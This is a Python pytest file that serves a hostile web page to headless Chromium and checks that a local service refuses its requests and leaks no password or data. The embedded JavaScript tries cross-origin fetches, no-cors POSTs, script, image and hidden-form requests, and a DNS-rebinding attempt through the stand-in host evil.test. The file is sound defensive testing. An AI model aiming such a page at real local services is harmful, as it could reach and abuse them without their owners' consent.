"""Attacks of a hostile web page on the local cloud: a real browser loads it."""

from __future__ import annotations

import http.client
import http.server
import json
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

from tests.common.test_attacks import PASSWORD, PATH, Attacked, attacked

__all__ = ["attacked"]

PAGE = """<!doctype html><title>a page</title><script>
const there = "http://PLACE", other = "http://evil.test:PORT", path = "PATH";
const body = "{}", quiet = {mode: "no-cors"};
const tries = [
  () => fetch(there + path).then(answer => answer.text()),
  () => fetch(there + path, quiet),
  () => fetch(there + path, {method: "POST", body, ...quiet}),
  () => fetch(there + path, {method: "POST", body, headers: {Authorization: "Bearer x"}}),
  () => fetch(other + path, quiet),
  () => fetch(other + path, {method: "POST", body, ...quiet}),
  () => new Promise((done, failed) => {
    const script = document.createElement("script");
    script.src = there + path; script.onload = done; script.onerror = failed;
    document.head.append(script);
  }),
  () => new Promise((done, failed) => {
    const image = new Image();
    image.src = there + path; image.onload = done; image.onerror = failed;
  }),
  () => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "frame"; document.body.append(frame);
    const form = document.createElement("form");
    form.action = there + path; form.method = "POST"; form.target = "frame";
    document.body.append(form);
    frame.onload = done; form.submit(); setTimeout(done, 2000);
  }),
];
async function attack() {
  const got = [];
  for (const one of tries)
    try { got.push(String(await one())); } catch (error) { got.push("refused"); }
  await fetch("/done", {method: "POST", body: JSON.stringify(got)});
}
</script><body onload="attack()"></body>"""


class _Page(http.server.BaseHTTPRequestHandler):
    """A hostile web page, and the address that it reports answers to."""

    page = b""
    told: list[str] | None = None

    def do_GET(self) -> None:
        self._answer(type(self).page if self.path == "/" else b"")

    def do_POST(self) -> None:
        type(self).told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, content: bytes) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, format: str, *arguments: object) -> None:
        pass


@pytest.mark.usefixtures("processes")
def test_web_page_cannot_reach_a_service(attacked: Attacked, tmp_path: Path) -> None:
    """The page sends all requests that a page can: fetches, a script, an image and a form, to the
    address and to a name that resolves to loopback (DNS rebinding).
    """
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("chromium is not installed: apt install chromium")
    port = attacked.place.partition(":")[2]
    page = PAGE.replace("PLACE", attacked.place).replace("PORT", port).replace("PATH", PATH)
    handler = type("Page", (_Page,), {"page": page.encode(), "told": None})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        command = [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--host-resolver-rules=MAP evil.test 127.0.0.1",
            f"--user-data-dir={tmp_path / 'profile'}",
            f"http://127.0.0.1:{server.server_address[1]}/",
        ]
        quiet = subprocess.DEVNULL
        process = subprocess.Popen(command, stdout=quiet, stderr=quiet, start_new_session=True)
        try:
            until = time.monotonic() + 120
            while handler.told is None and time.monotonic() < until and process.poll() is None:  # type: ignore[attr-defined]
                time.sleep(0.1)
        finally:
            process.terminate()
            process.wait()
            server.shutdown()
    answers = handler.told  # type: ignore[attr-defined]
    assert answers is not None, f"chromium ended with {process.returncode} before the page was done"
    assert len(answers) == 9
    assert not any(PASSWORD in answer or "data" in answer for answer in answers), answers
    assert attacked.service.requests == []
